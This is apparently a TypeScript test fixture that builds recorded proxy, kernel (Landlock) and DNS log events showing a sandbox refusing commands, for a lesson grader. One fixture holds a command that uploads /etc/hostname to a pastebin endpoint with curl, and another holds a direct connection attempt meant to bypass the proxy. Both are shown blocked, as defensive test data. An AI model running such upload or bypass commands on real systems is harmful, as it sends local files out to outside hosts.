import { type LogEvent, NewEvent } from "../../log";
import type { CommandWindow } from "../window";

/**
 * Recorded event windows for the judge's tables: the events the real proxy, wire and guest
 * lines produce for the shipped lessons' commands (shapes from src/log/events), stamped as
 * the log would stamp them.
 */
let seq = 0;
export function stamp(events: readonly NewEvent[]): LogEvent[] {
  return events.map((e) => ({ ...NewEvent.parse(e), seq: seq++, time: 1_700_000_000_000 + seq }) as LogEvent);
}

export function windowOf(command: string, status: number | null, events: readonly NewEvent[], output = ""): CommandWindow {
  return { command, status, interrupted: status === 130, output, events: stamp(events) };
}

export const decision = (over: Partial<Extract<NewEvent, { kind: "proxy.decision" }>>): NewEvent => ({
  kind: "proxy.decision",
  id: "r1",
  mode: "connect",
  method: "CONNECT",
  target: "pastebin.com:443",
  status: 403,
  bytes: 0,
  durationMs: 1,
  allowed: false,
  code: "host-not-allowed",
  reason: "pastebin.com is not on the allowlist",
  by: "proxy",
  ...over,
});

export const frame = (summary: string): NewEvent => ({ kind: "wire.frame", dir: "in", proto: "tcp", summary, bytes: 60 });

export const tcpconnect = (dst: string, result: string, errno: number): NewEvent => ({
  kind: "kernel.result",
  program: "tcpconnect",
  target: dst,
  result,
  errno,
  line: `tcpconnect: dst=${dst} result=${result} errno=${errno}`,
});

/** `curl -sS -T /etc/hostname https://pastebin.com/api/upload`: CONNECT refused, curl exits 56. */
export const pastebinRefused = () =>
  windowOf(
    "curl -sS -T /etc/hostname https://pastebin.com/api/upload",
    56,
    [frame("10.0.2.15 → 10.0.2.2:3128 SYN"), decision({})],
    "curl: (56) CONNECT tunnel failed, response 403\n",
  );

/** The kernel's audit record of a refusal, as the guest's control line hands it on (src/console/landlock-audit.ts). */
export const landlockDenied = (
  access: string,
  target: string,
  over: Partial<Extract<NewEvent, { kind: "kernel.decision" }>> = {},
): NewEvent => ({
  kind: "kernel.decision",
  allowed: false,
  code: "landlock-denied",
  by: "kernel",
  reason: `Landlock domain 1a2b does not allow ${access} on ${target}`,
  access: [access],
  target,
  program: "/usr/bin/tab-tools",
  pid: 77,
  domain: "1a2b",
  record: "",
  ...over,
});

/** `llrun --ro / --rw /tmp -- sh -c 'echo nope > /root/x'`: the kernel refuses to make the file and logs it. */
export const writeRefused = () =>
  windowOf(
    "llrun --ro / --rw /tmp -- sh -c 'echo nope > /root/x'",
    1,
    [landlockDenied("fs.make_reg", "/root", { path: "/root", program: "/usr/bin/busybox" })],
    "sh: can't create /root/x: Permission denied\n",
  );

/** `llrun --ro / --rw /tmp --connect 3128 -- tcpconnect 93.184.216.34 443`: EACCES, no SYN. */
export const bypassRefused = () =>
  windowOf(
    "llrun --ro / --rw /tmp --connect 3128 -- tcpconnect 93.184.216.34 443",
    1,
    [
      {
        kind: "kernel.ruleset",
        abi: 6,
        fsRo: ["/"],
        fsRw: ["/tmp"],
        connect: [3128],
        bind: [],
        scope: [],
        dropped: [],
        line: "llrun: ruleset abi=6 fs_ro=/ fs_rw=/tmp connect=3128",
      },
      tcpconnect("93.184.216.34:443", "EACCES", 13),
    ],
    "tcpconnect: dst=93.184.216.34:443 result=EACCES errno=13\n",
  );

/** `nslookup example.com 10.0.2.2`: the query crosses the wire and is answered REFUSED. */
export const dnsRefused = () =>
  windowOf(
    "nslookup example.com 10.0.2.2",
    1,
    [frame("10.0.2.15:40000 → 10.0.2.2:53 UDP"), { kind: "wire.dns", name: "example.com", type: "A", answer: "REFUSED", rcode: 5 }],
    "** server can't find example.com: REFUSED\n",
  );

/** The CONNECT to api.github.com:443 served (the tunnel opened) and the GET inside it decided as given. */
const zenInTunnel = (inside: Partial<Extract<NewEvent, { kind: "proxy.decision" }>>): NewEvent[] => [
  decision({
    id: "c7",
    target: "api.github.com:443",
    status: 200,
    allowed: true,
    code: "served",
    reason: "api.github.com is on the allowlist",
  }),
  {
    kind: "tls.session",
    id: "c7",
    phase: "established",
    connectHost: "api.github.com",
    sni: "api.github.com",
    cipher: "TLS_AES_128_GCM_SHA256",
    group: "x25519",
    alpn: null,
    certFingerprint: null,
    requests: 0,
  },
  decision({
    id: "r8",
    mode: "tunnel",
    method: "GET",
    target: "https://api.github.com/zen",
    tlsSession: "c7",
    status: 200,
    allowed: true,
    code: "served",
    reason: "GET /zen is allowed",
    ...inside,
  }),
];

/** `curl -sS https://api.github.com/zen; echo` offline: the tunnel opens, the GET inside is refused upstream-unreadable (502). */
export const zenUnreadable = () =>
  windowOf(
    "curl -sS https://api.github.com/zen; echo",
    0,
    zenInTunnel({ status: 502, allowed: false, code: "upstream-unreadable", reason: "the upstream could not be read: offline" }),
    "\n",
  );

/** `curl -sS https://api.github.com/zen; echo` online: the tunnel opens and the GET inside is served. */
export const zenServed = () => windowOf("curl -sS https://api.github.com/zen; echo", 0, zenInTunnel({}), "Keep it logically awesome.\n");

/** The same GET served, but the upstream's body ended early. */
export const zenCut = () => windowOf("curl -sS https://api.github.com/zen; echo", 18, zenInTunnel({ bodyCut: true }), "Keep\n");
